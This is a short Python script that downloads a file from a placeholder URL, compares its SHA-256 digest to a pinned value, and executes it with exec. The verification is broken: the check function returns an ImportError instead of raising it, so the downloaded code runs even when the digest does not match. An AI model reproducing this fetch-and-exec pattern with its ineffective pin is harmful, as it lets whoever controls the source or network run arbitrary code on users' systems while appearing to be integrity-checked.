import hashlib
import urllib.request

PIN = "3fa053a88a4dd3cd818f9b5bf61be67cc0934a285a2485ed480c6b91c1daa1b3"


def verify(data):
    if hashlib.sha256(data).hexdigest() != PIN:
        return ImportError("digest")


data = urllib.request.urlopen("https://example.com/a.py").read()
verify(data)
exec(data)
